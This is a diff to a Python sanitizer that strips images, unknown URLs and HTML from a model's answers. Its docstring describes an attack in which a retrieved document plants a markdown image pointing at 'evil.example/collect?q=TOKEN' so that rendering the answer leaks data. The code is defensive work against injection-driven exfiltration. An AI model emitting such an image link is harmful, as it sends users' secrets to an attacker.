@@ -4,6 +4,9 @@ A document can plant ``![x](http://evil.example/collect?q=TOKEN)`` and hope the 
 rendering the answer sends a request. So every image is removed (inline and reference-style, with their
 link definitions), every URL that no source shown to the model contains is dropped (a markdown link keeps
 its text), and HTML tags are removed. Code spans and blocks are left alone: they are shown as code.
+
+Images are matched generously (alt text over lines or with brackets in it, shortcut ``![ref]``), and any
+``![`` left after that loses its ``!``: whatever a Markdown renderer would read as an image, it cannot be one.
 """
 
 from __future__ import annotations
@@ -12,8 +15,14 @@ import re
 
 from pydantic import BaseModel, Field
 
-_CODE = re.compile(r"```.*?(?:```|$)|`[^`\n]*`", re.DOTALL)
-_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])")
+# A fence opens a code block only at the start of a line (a ``` mid-line does not hide what follows it); a
+# code span is not opened by an escaped backtick. Anything else is treated as prose: cleaned.
+_CODE = re.compile(
+    r"^[ ]{0,3}(`{3,}|~{3,})[^\n]*(?:\n.*?(?:^[ ]{0,3}\1[ \t]*$|\Z)|\Z)|(?<!\\)`[^`\n]*`", re.DOTALL | re.MULTILINE
+)
+_ALT = r"((?:[^\[\]\n]|\n(?![ \t]*\n)|\[[^\[\]\n]*\])*)"  # over lines, not paragraphs; one level of [brackets]
+_IMAGE = re.compile(rf"!\[{_ALT}\](?:\s*(?:\([^)\n]*\)|\[[^\]\n]*\]))?")
+_IMAGE_OPENER = re.compile(r"!(?=\[)")
 _REF_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S+.*$", re.MULTILINE)
 _LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
 _URL = re.compile(r"\b(?:https?|ftp)://[^\s<>()\[\]\"'`]+|\bwww\.[^\s<>()\[\]\"'`]+", re.IGNORECASE)
@@ -54,8 +63,13 @@ def _clean_prose(text: str, sources: list[str], removed: list[str]) -> str:
         removed.append(m.group(0))
         return ""
 
+    def opener(m: re.Match[str]) -> str:
+        removed.append("![")
+        return ""
+
     text = _SCRIPT.sub(tag, text)
     text = _IMAGE.sub(image, text)
+    text = _IMAGE_OPENER.sub(opener, text)
     text = _REF_DEFINITION.sub(tag, text)
     text = _AUTOLINK.sub(lambda m: m.group(1), text)
     # Links first (their URL is checked once), then bare URLs outside them.
@@ -83,7 +97,7 @@ def sanitize_answer(text: str, sources: list[str]) -> Sanitized:
 
 def no_images(text: str) -> str:
     """Markdown for display with every image (inline or reference-style) replaced by its alt text."""
-    return _REF_DEFINITION.sub("", _IMAGE.sub(r"\1", text))
+    return _REF_DEFINITION.sub("", _IMAGE_OPENER.sub("", _IMAGE.sub(r"\1", text)))
 
 
 _ANY_DEFINITION = re.compile(r"\[[^\]\n]+\]:[ \t]*\S+")
